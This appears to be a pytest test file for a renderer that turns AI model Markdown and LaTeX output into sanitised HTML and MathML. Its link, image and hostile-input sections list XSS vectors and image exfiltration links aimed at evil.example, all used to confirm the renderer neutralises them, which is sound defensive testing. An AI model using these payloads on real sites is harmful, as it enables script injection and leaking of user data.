"""render_markdown: Markdown and LaTeX math from the model become safe HTML.

Assertions look at the parsed output (tags, attributes, text) rather than at exact
strings, so harmless changes in serialisation do not break them.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest

from service.rendering import render_markdown

VOID_TAGS = frozenset({"br", "hr", "img", "input", "embed", "source", "wbr", "col", "area"})
SAFE_TAGS_TEXT = """
    p br hr em strong del s code pre blockquote a ul ol li h1 h2 h3 h4 h5 h6
    table thead tbody tr th td
    math mrow mi mn mo mtext mspace msub msup msubsup mfrac msqrt mroot mover munder
    munderover mtable mtr mtd mstyle mpadded mphantom menclose
"""
SAFE_TAGS = frozenset(SAFE_TAGS_TEXT.split())
LINK_REL = "noopener noreferrer nofollow"


@dataclass
class Element:
    tag: str
    attrs: dict[str, str | None]
    text: str = ""  # all text inside, descendants included


@dataclass
class Parsed:
    elements: list[Element] = field(default_factory=list)
    text: str = ""

    def find(self, tag: str) -> list[Element]:
        return [element for element in self.elements if element.tag == tag]

    def tags(self) -> set[str]:
        return {element.tag for element in self.elements}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parsed = Parsed()
        self._open: list[Element] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, dict(attrs))
        self.parsed.elements.append(element)
        if tag not in VOID_TAGS:
            self._open.append(element)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parsed.elements.append(Element(tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        for index in range(len(self._open) - 1, -1, -1):
            if self._open[index].tag == tag:
                del self._open[index:]
                return

    def handle_data(self, data: str) -> None:
        self.parsed.text += data
        for element in self._open:
            element.text += data


def parse(html: str) -> Parsed:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.parsed


def render(text: str) -> Parsed:
    return parse(render_markdown(text))


def assert_safe(html: str) -> None:
    """Nothing executable, styled or request-triggering, whatever the input was."""
    for element in parse(html).elements:
        assert element.tag in SAFE_TAGS, f"unexpected <{element.tag}> in {html!r}"
        for name, value in element.attrs.items():
            assert not name.startswith("on"), f"event handler {name} in {html!r}"
            assert name not in {"style", "src", "srcset", "action", "formaction", "id"}
            if name == "href":
                assert element.tag == "a", f"href on <{element.tag}> in {html!r}"
                assert value is not None
                assert value.startswith(("https://", "http://", "mailto:")), value
            if name == "class":
                assert element.tag == "code", f"class on <{element.tag}> in {html!r}"


# --- Markdown -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected_tags"),
    [
        ("Some *emphasis* and **strong** words.", {"p", "em", "strong"}),
        ("Not ~~this~~ but that.", {"p", "s"}),
        ("- keys\n- queries\n- values\n", {"ul", "li"}),
        ("1. embed\n2. attend\n", {"ol", "li"}),
        ("# Attention\n\n## Scaled dot product\n", {"h1", "h2"}),
        ("> a quoted passage\n", {"blockquote", "p"}),
        ("line one  \nline two\n\n---\n", {"br", "hr"}),
        ("Call `softmax` here.", {"p", "code"}),
        (
            "| model | params |\n|---|---|\n| GPT-2 | 1.5B |\n",
            {"table", "thead", "tbody", "tr", "th", "td"},
        ),
    ],
)
def test_markdown_blocks_render(source: str, expected_tags: set[str]) -> None:
    html = render_markdown(source)

    assert expected_tags <= parse(html).tags()
    assert_safe(html)


def test_list_items_keep_their_text() -> None:
    parsed = render("- keys\n- queries\n- values\n")

    assert [item.text for item in parsed.find("li")] == ["keys", "queries", "values"]


def test_table_alignment_survives_as_align_not_style() -> None:
    parsed = render("| left | right | centre |\n|:--|--:|:-:|\n| a | b | c |\n")

    assert [cell.attrs for cell in parsed.find("td")] == [
        {"align": "left"},
        {"align": "right"},
        {"align": "center"},
    ]


def test_empty_input_renders_nothing() -> None:
    assert render_markdown("") == ""


# --- math -----------------------------------------------------------------------------

ATTENTION = r"\mathrm{softmax}\left(\frac{QK^T}{\sqrt{d_k}}\right)V"


@pytest.mark.parametrize(
    ("source", "display", "expected_markup", "expected_text"),
    [
        (f"Attention is ${ATTENTION}$.", "inline", ["<mi>Q</mi>", "<mfrac>", "<msqrt>"], "softmax"),
        ("$$\n\\sum_{i=1}^{n} x_i\n$$\n", "block", ["<munderover>", "<mi>n</mi>"], "∑"),
        (
            r"The objective $\mathbb{E}_{x \sim p}[\log \pi_\theta(y|x)]$ is",
            "inline",
            ["<mi>log</mi>", "<mi>π</mi>", "<mi>θ</mi>"],
            "\N{MATHEMATICAL DOUBLE-STRUCK CAPITAL E}",
        ),
        (r"Advantage $\hat{A}_t$.", "inline", ['<mover accent="true">', "<mi>A</mi>"], "A"),
        (
            r"$\text{clip}(r_t(\theta), 1-\epsilon, 1+\epsilon)$",
            "inline",
            ["<mtext>clip</mtext>", "<mi>ϵ</mi>"],
            "clip",
        ),
        (
            "$$\n\\begin{aligned} L &= a + b \\\\ &= c \\end{aligned}\n$$\n",
            "block",
            ["<mtable", "<mtd"],
            "L",
        ),
        (
            "$$\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}$$",
            "block",
            ["<mtable>", "<mtr>", "<mn>4</mn>"],
            "1234",
        ),
        (
            r"$$\sigma\left(\beta \log \frac{\pi_\theta(y_w|x)}{\pi_{\text{ref}}(y_w|x)}\right)$$",
            "block",
            ["<mtext>ref</mtext>", "<mi>β</mi>"],
            "\N{GREEK SMALL LETTER SIGMA}",
        ),
        # $$…$$ inside a paragraph, as models often write it, is still display math.
        ("The loss is\n$$\nL = -\\log p\n$$\nwhere p is", "block", ["<mi>L</mi>"], "log"),
    ],
)
def test_math_becomes_mathml(
    source: str, display: str, expected_markup: list[str], expected_text: str
) -> None:
    html = render_markdown(source)
    [math] = parse(html).find("math")

    assert math.attrs["display"] == display
    for markup in expected_markup:
        assert markup in html
    assert expected_text in math.text.replace("\N{NO-BREAK SPACE}", "")
    assert "math-error" not in html
    assert_safe(html)


def test_long_display_formula_still_renders() -> None:
    # Longer than the block rule's search window, so it is parsed inside a paragraph.
    rows = "".join(f"x_{{{i}}} + \\\\\n" for i in range(80))
    parsed = render(f"$$\n{rows}y\n$$\n\nafter")

    [math] = parsed.find("math")
    assert math.attrs["display"] == "block"
    assert len(parsed.find("msub")) == 80
    assert parsed.find("p")[-1].text == "after"


def test_aligned_rows_become_table_rows_not_literal_ampersands() -> None:
    parsed = render("$$\n\\begin{aligned} L &= a \\\\ &= b \\end{aligned}\n$$\n")

    assert len(parsed.find("mtr")) == 2
    assert "&" not in parsed.text


def test_inline_and_display_math_in_one_document() -> None:
    parsed = render("Let $d_k$ be the key size.\n\n$$\nQK^T\n$$\n\nThen $V$.")

    assert [math.attrs["display"] for math in parsed.find("math")] == [
        "inline",
        "block",
        "inline",
    ]


@pytest.mark.parametrize(
    "source",
    [
        "It costs $5 and $10 a month.",
        "Between $5-$10 per million tokens.",
        "A $20,000 GPU and a $30,000 one.",
        "Pay $ 5 now and $ 6 later.",
        r"An escaped \$x\$ is not math.",
        "Shell variables: `$HOME` and `$PATH`.",
    ],
)
def test_currency_and_escaped_dollars_stay_text(source: str) -> None:
    parsed = render(source)

    assert parsed.find("math") == []
    assert "$" in parsed.text


def test_currency_next_to_real_math() -> None:
    parsed = render("A run costs $5, and $x_i$ is the input.")

    assert len(parsed.find("math")) == 1
    assert "costs $5, and" in parsed.text


@pytest.mark.parametrize("latex", [r"\frac{1}{", "x^", r"\left(", r"\frac{<b>&}{"])
def test_invalid_inline_latex_falls_back_to_escaped_code(latex: str) -> None:
    html = render_markdown(f"Before ${latex}$ and *after*.")
    parsed = parse(html)

    [code] = parsed.find("code")
    assert code.attrs == {"class": "math-error"}
    assert code.text == latex
    assert [em.text for em in parsed.find("em")] == ["after"]
    assert "b" not in parsed.tags()
    assert_safe(html)


def test_invalid_display_latex_keeps_the_rest_of_the_document() -> None:
    source = "Intro with *emphasis*.\n\n$$\n\\frac{1}{\n$$\n\n- still a list\n\nAnd $x$."
    parsed = render(source)

    [code] = parsed.find("code")
    assert code.attrs == {"class": "math-error"}
    assert code.text == "\\frac{1}{"
    assert {"pre", "em", "li", "math"} <= parsed.tags()


@pytest.mark.parametrize(
    "latex",
    [
        r"\def\a{\a}\a",  # infinite macro recursion
        "{" * 3000 + "x" + "}" * 3000,  # deeper than Python's recursion limit
    ],
)
def test_pathological_latex_does_not_crash(latex: str) -> None:
    parsed = render(f"$${latex}$$\n\nafter")

    assert parsed.find("code")[0].attrs == {"class": "math-error"}
    assert parsed.find("p")[-1].text == "after"


# --- code -----------------------------------------------------------------------------

PYTHON = """\
def mask(scores, n):
    if n < 0 and scores & 1:
        return "<pad>"  # costs $5, not $x$
    return scores
"""


def test_fenced_code_keeps_language_and_exact_text() -> None:
    html = render_markdown(f"```python\n{PYTHON}```\n")
    parsed = parse(html)

    [code] = parsed.find("code")
    assert code.attrs == {"class": "language-python"}
    assert code.text == PYTHON
    assert "&lt;pad&gt;" in html
    assert "n &lt; 0 and scores &amp; 1" in html
    assert parsed.find("math") == []
    assert_safe(html)


def test_inline_code_is_not_math() -> None:
    parsed = render("Write `$x_i$` to get $x_i$.")

    assert [code.text for code in parsed.find("code")] == ["$x_i$"]
    assert len(parsed.find("math")) == 1


@pytest.mark.parametrize(
    ("info", "expected_attrs"),
    [
        ("c++", {"class": "language-c++"}),
        ("objective-c", {"class": "language-objective-c"}),
        ('"><script>alert(1)</script>', {}),
        ("x onmouseover=alert(1)", {"class": "language-x"}),
    ],
)
def test_code_language_class_is_restricted(info: str, expected_attrs: dict[str, str]) -> None:
    html = render_markdown(f"```{info}\nbody\n```\n")

    [code] = parse(html).find("code")
    assert code.attrs == expected_attrs
    assert_safe(html)


# --- links and images -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[the paper](https://arxiv.org/abs/1706.03762)", "https://arxiv.org/abs/1706.03762"),
        ("<https://example.com/docs>", "https://example.com/docs"),
        ("[write](mailto:someone@example.com)", "mailto:someone@example.com"),
        ("[plain](http://example.com/a?b=1&c=2)", "http://example.com/a?b=1&c=2"),
    ],
)
def test_links_keep_href_and_get_rel(source: str, href: str) -> None:
    [link] = render(source).find("a")

    assert link.attrs["href"] == href
    assert link.attrs["rel"] == LINK_REL


@pytest.mark.parametrize("target", ["/api/learners/me", "//evil.example/x", "ftp://example.com/f"])
def test_links_outside_allowed_schemes_lose_href(target: str) -> None:
    [link] = render(f"[text]({target})").find("a")

    assert "href" not in link.attrs
    assert link.text == "text"


@pytest.mark.parametrize(
    "source",
    [
        "![exfil](https://evil.example/?q=secret)",
        '![exfil](https://evil.example/?q=secret "title")',
        "![exfil][ref]\n\n[ref]: https://evil.example/?q=secret\n",
        "<img src=https://evil.example/?q=secret>",
    ],
)
def test_images_never_load(source: str) -> None:
    html = render_markdown(source)

    assert "<img" not in html
    assert parse(html).find("img") == []
    assert_safe(html)


def test_image_renders_as_its_alt_text() -> None:
    html = render_markdown("See ![the *architecture* diagram](https://evil.example/?q=secret).")

    assert parse(html).text.strip() == "See the architecture diagram."
    assert "evil.example" not in html


def test_image_inside_link_keeps_the_link() -> None:
    [link] = render("[![diagram](https://evil.example/i.png)](https://ok.example/)").find("a")

    assert link.attrs["href"] == "https://ok.example/"
    assert link.text == "diagram"


# --- hostile input --------------------------------------------------------------------

XSS_VECTORS = {
    "script": "<script>alert(1)</script>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "javascript link": "[click](javascript:alert(1))",
    "mixed-case javascript": "[click](JaVaScRiPt:alert(1))",
    "entity javascript": "[click](javascript&#58;alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data autolink": "<data:text/html,<script>alert(1)</script>>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example/"><input name="q"></form>',
    "svg onload": "<svg onload=alert(1)>",
    "raw anchor": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "style": "<style>body{background:url(https://evil.example/)}</style>",
    "comment": "<!-- <script>alert(1)</script> -->",
    "exfil image": "![exfil](https://evil.example/?q=secret)",
    "title breakout": '[x](https://ok.example/ "a\\" onmouseover=\\"alert(1)")',
    "math href": r"$\href{javascript:alert(1)}{x}$",
    "math style": r"$\style{background:url(https://evil.example/)}{x}$",
    "math class": r"$\class{evil}{x}$",
    "math text markup": r"$\text{<img src=x onerror=alert(1)>}$",
    "math in table": "| a |\n|---|\n| $\\href{javascript:alert(1)}{x}$ |\n",
    "raw math": '<math><maction actiontype="statusline"><mtext>x</mtext></maction></math>',
}


@pytest.mark.parametrize("source", XSS_VECTORS.values(), ids=XSS_VECTORS.keys())
def test_hostile_input_is_neutralised(source: str) -> None:
    html = render_markdown(source)

    assert_safe(html)
    assert "<script" not in html.lower()
    attribute_values = " ".join(
        str(value) for element in parse(html).elements for value in element.attrs.values()
    ).lower()
    for banned in ("javascript:", "data:", "evil.example"):
        assert banned not in attribute_values


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        '<a href="https://ok.example/" onclick="alert(1)">x</a>',
        "[click](javascript:alert(1))",
    ],
)
def test_raw_html_and_refused_links_are_shown_as_text(source: str) -> None:
    assert render(source).text.strip() == source


def test_math_cannot_smuggle_markup() -> None:
    html = render_markdown(r"$\text{<script>alert(1)</script>}$")
    [mtext] = parse(html).find("mtext")

    assert mtext.text == "<script>alert(1)</script>"
    assert "<script" not in html


def test_math_hyperlink_keeps_content_but_not_href() -> None:
    [math] = render(r"$\href{https://evil.example/}{x}$").find("math")

    assert math.text == "x"
    assert "evil.example" not in render_markdown(r"$\href{https://evil.example/}{x}$")


def test_math_can_keep_its_latex_for_a_reader_to_copy_back() -> None:
    html = render_markdown("divide each by $\\sqrt{d_k}$, then", math="mathml-with-source")
    [math] = parse(html).find("math")

    assert math.attrs["alttext"] == "\\sqrt{d_k}"
    assert "alttext" not in render_markdown("divide each by $\\sqrt{d_k}$")  # not by default
    assert_safe(html)
